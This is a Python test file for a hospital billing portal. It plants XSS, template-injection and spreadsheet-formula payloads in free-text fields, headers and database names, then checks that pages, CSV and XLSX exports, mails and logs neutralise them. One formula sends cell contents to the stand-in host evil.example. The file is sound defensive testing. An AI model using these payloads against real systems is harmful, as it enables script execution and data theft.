"""Text that people type, and text that a source delivers, is shown as text: in pages, files, mails and the audit log."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator

import openpyxl
import pytest

from tests.portal.attacks.target import PERIOD, Target, query
from warehouse.engine import connect

_SCRIPT = "<script>alert(7191)</script><img src=x onerror=alert(7191)>{{7*7191}}"
_FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"open")'
_STARTS = tuple("=+-@\t\r\n")
_NUMBER = re.compile(r"-?\d+(\.\d+)?")


@pytest.fixture(scope="module")
def poisoned(target: Target) -> Target:
    """The portal after somebody wrote code into every free text, and a source delivered it as names."""
    wanted = {
        "invoiceId": "I06",
        "amount": "1.00",
        "category": "OTHER",
        "reason": _FORMULA + _SCRIPT,
        "notes": "@SUM(1)" + _SCRIPT,
    }
    numbers = []
    for _ in range(4):
        asked = target.send("accountant", "POST", "/api/v1/financial-reports/write-offs", wanted)
        assert asked.status_code == 201, asked.text
        numbers.append(asked.json["data"]["id"])
    for number, how in zip(numbers, ("approve", "reject", "cancel", "approve"), strict=True):
        role = "accountant" if how == "cancel" else "hospital_admin"
        address = f"/api/v1/financial-reports/write-offs/{number}/{how}"
        done = target.send(role, "PATCH", address, {"notes": "+1" + _SCRIPT})
        assert done.status_code == 200, done.text
    back = {"notes": "-2+3" + _SCRIPT}
    assert (
        target.send(
            "accountant", "PATCH", f"/api/v1/financial-reports/write-offs/{numbers[0]}/reverse", back
        ).status_code
        == 200
    )
    target.browser("accountant").get("/staff/reports", headers={"User-Agent": _FORMULA + _SCRIPT})
    with connect("owner") as owner:
        for table in ("hospitals", "departments", "providers", "payers"):
            owner.execute(f"update marts_b1.dim_{table} set name = %s || name", [_FORMULA + _SCRIPT])
        owner.commit()
    return target


def test_no_page_runs_what_was_typed_or_delivered(poisoned: Target) -> None:
    shown = 0
    for rule in poisoned.readable():
        for ids in ({}, {"number": 2}, {"invoice_id": "I06"}):
            if ids and not ids.keys() <= rule.arguments:
                continue
            with poisoned.browser("super_admin").get(
                f"{poisoned.address(rule, **ids)}?{query(rule, **PERIOD)}"
            ) as answer:
                if answer.mimetype in ("application/json", "application/pdf", "image/png"):
                    continue
                assert "<script>alert(7191)" not in answer.text, rule
                assert "<img src=x" not in answer.text, rule
                assert "50337" not in answer.text, rule
                shown += "&lt;script&gt;alert(7191)" in answer.text
    assert shown >= 6  # it is there to be seen


def _files(target: Target, format: str) -> Iterator[tuple[str, bytes]]:
    documents = ("revenue", "patient-history", "outstanding", "ar-aging", "revenue-department", "revenue-doctor", "revenue-payer",
                 "collection-rate", "tax-summary", "write-offs", "cash-receipts", "roll-forward", "credits", "kpis")  # fmt: skip
    for rule in target.files():
        kinds = documents if rule.endpoint == "api_v1.export.export" else ("",)
        for kind in kinds:
            more = {"reportType": kind} if kind else {}
            more |= {"patientId": "P01", "hospitalId": "H1"} if kind == "patient-history" else {}
            address, answer = target.file(rule, format, **more)
            assert answer.status_code == 200, (address, answer.text)
            if format in answer.headers["Content-Disposition"]:
                yield address, answer.data


def test_no_csv_has_a_cell_that_a_spreadsheet_runs(poisoned: Target) -> None:
    seen, met = 0, 0
    for address, content in _files(poisoned, "csv"):
        for row in csv.reader(io.StringIO(content.decode("utf-8"), newline="")):
            for cell in row:
                assert not cell.lstrip(" ").startswith(_STARTS) or _NUMBER.fullmatch(cell), (address, cell)
                met += cell.startswith("'")
        seen += 1
    assert seen >= 45
    assert met >= 10


def test_no_xlsx_has_a_formula_or_a_link(poisoned: Target) -> None:
    seen = 0
    for address, content in _files(poisoned, "xlsx"):
        book = openpyxl.load_workbook(io.BytesIO(content))
        for sheet in book.worksheets:
            assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"], address
        with zipfile.ZipFile(io.BytesIO(content)) as parts:
            assert not [name for name in parts.namelist() if "externalLink" in name or "vbaProject" in name], address
            assert 'TargetMode="External"' not in "".join(
                parts.read(name).decode() for name in parts.namelist() if name.endswith(".rels")
            )
        seen += 1
    assert seen >= 35


def test_what_was_typed_makes_no_line_of_a_mail_or_a_log(poisoned: Target) -> None:
    with connect("owner") as owner:
        mails = str(owner.execute("select subject, body from portal.mails").fetchall())
        agents = [row[0] for row in owner.execute("select distinct user_agent from portal.audit_log").fetchall()]
    assert "7191" not in mails
    assert any(agent and "7191" in agent for agent in agents)
    assert all(agent is None or agent.isprintable() for agent in agents)
